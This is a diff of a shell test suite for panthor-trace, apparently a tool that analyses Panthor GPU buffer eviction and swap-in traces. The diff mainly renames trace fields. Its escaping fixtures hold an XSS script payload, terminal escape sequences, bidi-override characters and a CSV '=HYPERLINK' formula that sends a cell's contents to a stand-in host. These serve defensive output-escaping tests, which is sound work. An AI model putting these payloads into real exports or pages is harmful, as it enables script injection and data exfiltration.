@@ -87,7 +87,7 @@ evicted = {(b[\"id\"], b[\"bo_id\"]) for b in d[\"bos\"] if b[\"what\"] == \"evi
 bad += sum((s[\"id\"], s[\"bo_id\"]) not in evicted for s in d[\"swapins\"])
 bad += sum(s[\"size\"] for s in d[\"swapins\"]) != sum(s[\"swapped_in\"] for s in d[\"stalls\"])
 print(len(d[\"requests\"]), \"requests,\", len(d[\"bos\"]), \"BOs,\", len(d[\"swapins\"]), \"swap-ins, bad:\", bad)'"
-for size in 100 5000 12000 15000; do
+for size in 100 5000 12000 13500; do
 	head -c $size golden.dat >cut.dat
 	complains "golden trace truncated to $size bytes" 1 '^panthor-trace: cut.dat: ' "$PT" report cut.dat
 done
@@ -102,7 +102,7 @@ expect "pid" 0 '1 request:' "$PT" report --pid 388 two.dat
 expect "writer's pid" 0 '2 requests:' "$PT" report --pid 412 two.dat
 expect "client" 0 '1 request:' "$PT" report --client 6 two.dat
 expect "sorting down" 0 '^2$' sh -c "'$PT' report --sort=-duration_ns -F csv --fields id two.dat | sed -n 2p"
-expect "fields in their order" 0 '^writer_comm,id$' "$PT" report -F csv --fields writer_comm,id two.dat
+expect "fields in their order" 0 '^requester_comm,id$' "$PT" report -F csv --fields requester_comm,id two.dat
 expect "sum of shares is 100" 0 '^100.0$' sh -c "'$PT' report -F csv --fields fence_pct,lock_pct,unmap_pct,writeback_pct,other_pct two.dat | tail -n +2 | awk -F, '{ printf \"%.1f\n\", \$1 + \$2 + \$3 + \$4 + \$5 }' | sort -u"
 expect "the sentence" 0 'worst #2 at 101.000000: blocked 412 ms: 97.0 % waiting for job fences of VM 2, client 6 of game\[401\] \(3 fences, last 17:2041\)$' "$PT" report two.dat
 same "refault --by client" refault-by-client.txt "$PT" refault --by client --soon 3s two.dat
@@ -182,7 +182,7 @@ expect "a stall, and who caused it" 0 '^stalled 2 times, 32.5 ms in all; worst a
 # stall SECONDS THREAD REQUEST BO RESULT AWAY...
 stall()
 {
-	printf '0 %s %d panthor_bo_swapin dev=panthor id=%d bo_id=%d client_id=5 tgid=388 vm_id=1 result=%d size=1048576 away_ns=%d duration_ns=1000000 evictions=1 label="x"\n' "$@"
+	printf '0 %s %d panthor_bo_swapin dev=panthor id=%d bo_id=%d client_id=5 tgid=388 vm_id=1 result=%d size=1048576 evicted_ns=%d duration_ns=1000000 evictions=1 label="x"\n' "$@"
 }
 # One of thread 390: 16 ms apart, of two requests, more of the second, one swap-in that failed; another thread meanwhile. A second one
 # of it 16.001 ms later, and a third of a request that the trace does not have.
@@ -190,7 +190,7 @@ stall()
 	110.000000 390 1 11 0 9000000000 110.017000 390 2 21 0 8000000000 110.018000 390 2 22 0 8500000000 110.018500 391 1 12 0 9000000000 \
 	110.019000 390 2 23 -12 8600000000 110.036001 390 1 13 0 9000000000 111.000000 390 77 14 0 9000000000) | make_trace stalls.dat
 cat >stalls.expected <<-'END'
-	time_ns,end_ns,target_comm,tgid,comm,pid,stalled_ns,swapped_in_bos,swapped_in,id,requests,writer_comm,away_ns
+	time_ns,end_ns,target_comm,tgid,comm,pid,stalled_ns,swapped_in_bos,swapped_in,id,requests,requester_comm,evicted_ns
 	109999000000,110019000000,,388,"render",390,4000000,4,3145728,2,2,"manager",8000000000
 	110017500000,110018500000,"browser",388,,391,1000000,1,1048576,1,1,"manager",9000000000
 	110035001000,110036001000,"browser",388,"render",390,1000000,1,1048576,1,1,"manager",9000000000
@@ -213,8 +213,8 @@ expect "nothing is mixed up" 0 '^evicted 104 MiB, swapped in 104 MiB' "$PT" refa
 
 # To the end of the trace, whatever is there
 make_trace gain.dat <<'END'
-0 10.000000 412 panthor_reclaim_begin dev=panthor id=1 source=0 writer_tgid=412 target_tgid=388 writer_comm=manager target_comm=browser
-0 10.001000 412 panthor_bo_evict dev=panthor id=1 bo_id=11 client_id=5 tgid=388 vm_id=1 state=2 size=1073741824 duration_ns=800000 evictions=1 label="x"
+0 10.000000 412 panthor_reclaim_begin dev=panthor id=1 source=0 requester_tgid=412 target_tgid=388 requester_comm=manager target_comm=browser
+0 10.001000 412 panthor_bo_evict id=1 bo_id=11 client_id=5 tgid=388 vm_id=1 state=2 size=1073741824 duration_ns=800000 evictions=1 label="x"
 0 10.002000 412 panthor_reclaim_end dev=panthor id=1 source=0 target_tgid=388 evicted_bos=1 evicted=1073741824 duration_ns=2000000 target_comm=browser
 noise 0 70.002000 70.002001 2
 END
@@ -344,16 +344,16 @@ complains "a newer driver" 0 'newer driver; left out: panthor_bo_evict.mood$' "$
 
 # What later drivers tell besides
 make_trace later.dat <<'END'
-0 1.000000 7 panthor_reclaim_begin dev=panthor id=1 writer_tgid=7 target_tgid=8 writer_comm=mgr target_comm=app
-0 1.001000 7 panthor_bo_evict dev=panthor id=1 bo_id=1 client_id=2 tgid=8 vm_id=1 size=4096 duration_ns=5 evictions=1 kind=1 label="a"
-0 1.002000 7 panthor_bo_evict_skip dev=panthor id=1 bo_id=3 client_id=2 tgid=8 vm_id=1 size=8192 duration_ns=5 reason=2 lock=3 label="b"
-0 1.010000 7 panthor_reclaim_end dev=panthor id=1 target_tgid=8 evicted_bos=1 evicted=4096 skipped_bos=1 skipped=8192 duration_ns=10000000 unwritten=4096 left_locked=8192 cut_short=1
-0 2.000000 7 panthor_reclaim_begin dev=panthor id=2 writer_tgid=7 target_tgid=8 writer_comm=mgr target_comm=app
-0 2.001000 7 panthor_bo_evict dev=panthor id=2 bo_id=2 client_id=2 tgid=8 vm_id=1 size=4096 duration_ns=5 evictions=1 label="c"
-0 2.500000 7 panthor_bo_writeback dev=panthor id=2 bo_id=1 client_id=2 vm_id=1 size=4096 written=4096 freed=4096 start_ns=100000000 duration_ns=400000000
-0 2.600000 7 panthor_bo_writeback dev=panthor id=2 bo_id=2 client_id=2 vm_id=1 size=4096 written=4096 freed=4096 start_ns=200000000 duration_ns=400000000
+0 1.000000 7 panthor_reclaim_begin dev=panthor id=1 requester_tgid=7 target_tgid=8 requester_comm=mgr target_comm=app
+0 1.001000 7 panthor_bo_evict id=1 bo_id=1 client_id=2 tgid=8 vm_id=1 size=4096 duration_ns=5 evictions=1 kind=1 label="a"
+0 1.002000 7 panthor_bo_evict_skip id=1 bo_id=3 client_id=2 tgid=8 vm_id=1 size=8192 duration_ns=5 reason=2 lock=3 label="b"
+0 1.010000 7 panthor_reclaim_end dev=panthor id=1 target_tgid=8 evicted_bos=1 evicted=4096 skipped_bos=1 skipped=8192 duration_ns=10000000 unwritten=4096 skipped_locked=8192 cut_short=1
+0 2.000000 7 panthor_reclaim_begin dev=panthor id=2 requester_tgid=7 target_tgid=8 requester_comm=mgr target_comm=app
+0 2.001000 7 panthor_bo_evict id=2 bo_id=2 client_id=2 tgid=8 vm_id=1 size=4096 duration_ns=5 evictions=1 label="c"
+0 2.500000 7 panthor_bo_writeback id=2 bo_id=1 client_id=2 vm_id=1 size=4096 written=4096 freed=4096 start_ns=100000000 duration_ns=400000000
+0 2.600000 7 panthor_bo_writeback id=2 bo_id=2 client_id=2 vm_id=1 size=4096 written=4096 freed=4096 start_ns=200000000 duration_ns=400000000
 0 2.700000 7 panthor_reclaim_end dev=panthor id=2 target_tgid=8 evicted_bos=1 evicted=4096 written=8192 freed=8192 duration_ns=700000000 writeback_ns=500000000
-0 3.000000 7 panthor_reclaim_begin dev=panthor id=3 writer_tgid=7 target_tgid=8 writer_comm=mgr target_comm=app
+0 3.000000 7 panthor_reclaim_begin dev=panthor id=3 requester_tgid=7 target_tgid=8 requester_comm=mgr target_comm=app
 0 3.000010 7 panthor_reclaim_end dev=panthor id=3 target_tgid=8 duration_ns=10000
 END
 expect "later: what an earlier request evicted is written" 0 '^2500000000,2,"written",1,2100000000,2500000000,0$' \
@@ -362,7 +362,7 @@ expect "later: two writes at a time are in two lanes" 0 '^2,"evicted",2200000000
 	"$PT" export -T bos -F csv -f bo_id,what,writeback_start_ns,writeback_time_ns,writeback_lane,writeback_when later.dat
 expect "later: which lock" 0 '^"skipped","gpuva","user"$' "$PT" export -T bos -F csv -f what,lock,kind later.dat
 expect "later: which kind" 0 '^"evicted",,"user-nommap"$' "$PT" export -T bos -F csv -f what,lock,kind later.dat
-expect "later: what is left, and why" 0 '^1,4096,8192,' "$PT" export -F csv -f id,unwritten,left_locked,cut_short later.dat
+expect "later: what is left, and why" 0 '^1,4096,8192,' "$PT" export -F csv -f id,unwritten,skipped_locked,cut_short later.dat
 expect "later: nothing contradicts itself" 0 '"partial": 0, "mismatch": 0' "$PT" export later.dat
 expect "later: cut short" 0 '^worst #1 .*; cut short: ' "$PT" report --filter id=1 later.dat
 expect "nothing left to do" 0 '^worst #3 .*: blocked 10.0 us: there was nothing left to evict$' "$PT" report --filter id=3 later.dat
@@ -370,8 +370,8 @@ expect "later: the writes of a process do not overlap on a track" 0 'bad: 0$' sh
 
 # Escaping: what stands in a label, in every format
 make_trace evil.dat <<'END'
-0 1.0 7 panthor_reclaim_begin dev=panthor id=1 writer_tgid=7 target_tgid=8 writer_comm="\x1b[2J<b>" target_comm="a,\"
-0 1.1 7 panthor_bo_evict dev=panthor id=1 bo_id=1 client_id=2 tgid=8 vm_id=1 state=2 size=4096 duration_ns=5 evictions=1 label="</script><script>alert(1)</script>\x1b]0;x\x07\x22,\xff"
+0 1.0 7 panthor_reclaim_begin dev=panthor id=1 requester_tgid=7 target_tgid=8 requester_comm="\x1b[2J<b>" target_comm="a,\"
+0 1.1 7 panthor_bo_evict id=1 bo_id=1 client_id=2 tgid=8 vm_id=1 state=2 size=4096 duration_ns=5 evictions=1 label="</script><script>alert(1)</script>\x1b]0;x\x07\x22,\xff"
 0 1.2 7 panthor_reclaim_end dev=panthor id=1 target_tgid=8 evicted_bos=1 evicted=4096 duration_ns=200000000
 END
 for f in table json jsonl csv chrome html; do
@@ -392,20 +392,20 @@ comm 7 mgr
 comm 9 mgr-worker
 comm 30 kworker/u8:2
 comm 8 app
-0 1.000000 7 panthor_reclaim_begin dev=panthor id=1 writer_tgid=7 target_tgid=8 writer_comm=mgr target_comm=app
-0 1.000010 7 panthor_vm_reclaim_begin dev=panthor id=1 client_id=2 tgid=8 vm_id=1 bos=1 size=8192
-1 1.000020 9 panthor_reclaim_begin dev=panthor id=2 writer_tgid=7 target_tgid=8 writer_comm=mgr target_comm=app
-1 1.000030 9 panthor_vm_reclaim_begin dev=panthor id=2 client_id=2 tgid=8 vm_id=1 bos=2 size=8192
-0 1.001000 7 panthor_bo_evict dev=panthor id=1 bo_id=1 client_id=2 tgid=8 vm_id=1 state=2 size=4096 duration_ns=500 evictions=1 label=a
-1 1.001100 9 panthor_bo_evict dev=panthor id=2 bo_id=2 client_id=2 tgid=8 vm_id=1 state=2 size=4096 duration_ns=500 evictions=1 label=b
-0 1.002000 7 panthor_vm_reclaim_end dev=panthor id=1 client_id=2 tgid=8 vm_id=1 evicted=4096 evicted_bos=1 duration_ns=1900000
-1 1.003000 9 panthor_vm_reclaim_end dev=panthor id=2 client_id=2 tgid=8 vm_id=1 evicted=4096 evicted_bos=1 duration_ns=2900000
-0 1.008000 7 panthor_bo_writeback dev=panthor id=1 bo_id=1 client_id=2 vm_id=1 size=4096 written=4096 freed=4096 start_ns=4000000 duration_ns=4000000
-1 1.009000 9 panthor_bo_writeback dev=panthor id=2 bo_id=2 client_id=2 vm_id=1 size=4096 written=4096 freed=4096 start_ns=4980000 duration_ns=4000000
+0 1.000000 7 panthor_reclaim_begin dev=panthor id=1 requester_tgid=7 target_tgid=8 requester_comm=mgr target_comm=app
+0 1.000010 7 panthor_vm_reclaim_begin id=1 client_id=2 tgid=8 vm_id=1 bos=1 size=8192
+1 1.000020 9 panthor_reclaim_begin dev=panthor id=2 requester_tgid=7 target_tgid=8 requester_comm=mgr target_comm=app
+1 1.000030 9 panthor_vm_reclaim_begin id=2 client_id=2 tgid=8 vm_id=1 bos=2 size=8192
+0 1.001000 7 panthor_bo_evict id=1 bo_id=1 client_id=2 tgid=8 vm_id=1 state=2 size=4096 duration_ns=500 evictions=1 label=a
+1 1.001100 9 panthor_bo_evict id=2 bo_id=2 client_id=2 tgid=8 vm_id=1 state=2 size=4096 duration_ns=500 evictions=1 label=b
+0 1.002000 7 panthor_vm_reclaim_end id=1 client_id=2 tgid=8 vm_id=1 evicted=4096 evicted_bos=1 duration_ns=1900000
+1 1.003000 9 panthor_vm_reclaim_end id=2 client_id=2 tgid=8 vm_id=1 evicted=4096 evicted_bos=1 duration_ns=2900000
+0 1.008000 7 panthor_bo_writeback id=1 bo_id=1 client_id=2 vm_id=1 size=4096 written=4096 freed=4096 start_ns=4000000 duration_ns=4000000
+1 1.009000 9 panthor_bo_writeback id=2 bo_id=2 client_id=2 vm_id=1 size=4096 written=4096 freed=4096 start_ns=4980000 duration_ns=4000000
 0 1.010000 7 panthor_reclaim_end dev=panthor id=1 target_tgid=8 evicted_bos=1 evicted=4096 written=4096 freed=4096 duration_ns=10000000 writeback_ns=4000000
 1 1.011000 9 panthor_reclaim_end dev=panthor id=2 target_tgid=8 evicted_bos=1 evicted=4096 written=4096 freed=4096 duration_ns=10980000 writeback_ns=4000000
-0 2.000000 30 panthor_bo_swapin dev=panthor id=1 bo_id=1 client_id=2 tgid=8 vm_id=1 result=0 size=4096 away_ns=999000000 duration_ns=3000 evictions=1 label=a
-1 2.100000 8 panthor_bo_swapin dev=panthor id=2 bo_id=2 client_id=2 tgid=8 vm_id=1 result=0 size=4096 away_ns=1098900000 duration_ns=3000 evictions=1 label=b
+0 2.000000 30 panthor_bo_swapin dev=panthor id=1 bo_id=1 client_id=2 tgid=8 vm_id=1 result=0 size=4096 evicted_ns=999000000 duration_ns=3000 evictions=1 label=a
+1 2.100000 8 panthor_bo_swapin dev=panthor id=2 bo_id=2 client_id=2 tgid=8 vm_id=1 result=0 size=4096 evicted_ns=1098900000 duration_ns=3000 evictions=1 label=b
 END
 for f in two golden both; do
 	expect "$f: Chrome slices nest" 0 'arrows: [1-9][0-9]* spans: [1-9][0-9]* counters: [1-9][0-9]* names: [1-9][0-9]* bad: 0$' sh -c "'$PT' export -F chrome $f.dat | python3 '$HERE/nesting.py'"
@@ -453,9 +453,9 @@ expect "evil CSV has one record a row" 0 '^\[2, 1\]$' sh -c "'$PT' export -F csv
 
 # In a spreadsheet text stays text, and a program gets it back by taking one apostrophe away
 make_trace formula.dat <<'END'
-0 1.0 7 panthor_reclaim_begin dev=panthor id=1 writer_tgid=7 target_tgid=8 writer_comm="-2" target_comm="=1+1"
-0 1.1 7 panthor_bo_evict dev=panthor id=1 bo_id=1 client_id=2 tgid=8 vm_id=1 state=2 size=4096 duration_ns=5 evictions=1 label="=HYPERLINK('http://x.test/?'&A1)"
-0 1.2 7 panthor_bo_evict_skip dev=panthor id=1 bo_id=2 client_id=2 tgid=8 vm_id=1 state=2 size=4096 duration_ns=5 evictions=1 label="'quoted"
+0 1.0 7 panthor_reclaim_begin dev=panthor id=1 requester_tgid=7 target_tgid=8 requester_comm="-2" target_comm="=1+1"
+0 1.1 7 panthor_bo_evict id=1 bo_id=1 client_id=2 tgid=8 vm_id=1 state=2 size=4096 duration_ns=5 evictions=1 label="=HYPERLINK('http://x.test/?'&A1)"
+0 1.2 7 panthor_bo_evict_skip id=1 bo_id=2 client_id=2 tgid=8 vm_id=1 state=2 size=4096 duration_ns=5 evictions=1 label="'quoted"
 0 1.3 7 panthor_reclaim_end dev=panthor id=1 target_tgid=8 evicted_bos=1 evicted=4096 skipped_bos=1 skipped=4096 duration_ns=300000000
 END
 expect "no formula in a CSV" 0 '!(^|,)"?[-=+@]' "$PT" export -F csv -T bos -f label formula.dat
@@ -464,9 +464,9 @@ expect "labels come back from a CSV" 0 "^\\[\"=HYPERLINK\\('http://x.test/\\?'&A
 
 # What the kernel has escaped is not escaped again; what does not show, or turns the text round, is
 make_trace esc.dat <<'END'
-0 1.0 7 panthor_reclaim_begin dev=panthor id=1 writer_tgid=7 target_tgid=8 writer_comm="mgr" target_comm="a\x09b"
-0 1.1 7 panthor_bo_evict dev=panthor id=1 bo_id=1 client_id=2 tgid=8 vm_id=1 state=2 size=4096 duration_ns=5 evictions=1 label="say \x5cx22hi\x5cx22"
-0 1.2 7 panthor_bo_evict dev=panthor id=1 bo_id=2 client_id=2 tgid=8 vm_id=1 state=2 size=4096 duration_ns=5 evictions=1 label="x\xe2\x80\xaey\xf3\xa0\x81\x81\xc2\xad"
+0 1.0 7 panthor_reclaim_begin dev=panthor id=1 requester_tgid=7 target_tgid=8 requester_comm="mgr" target_comm="a\x09b"
+0 1.1 7 panthor_bo_evict id=1 bo_id=1 client_id=2 tgid=8 vm_id=1 state=2 size=4096 duration_ns=5 evictions=1 label="say \x5cx22hi\x5cx22"
+0 1.2 7 panthor_bo_evict id=1 bo_id=2 client_id=2 tgid=8 vm_id=1 state=2 size=4096 duration_ns=5 evictions=1 label="x\xe2\x80\xaey\xf3\xa0\x81\x81\xc2\xad"
 0 1.3 7 panthor_reclaim_end dev=panthor id=1 target_tgid=8 evicted_bos=2 evicted=8192 duration_ns=300000000
 END
 expect "table: escaped once" 0 'say \\x22hi\\x22 ' "$PT" report --bos esc.dat
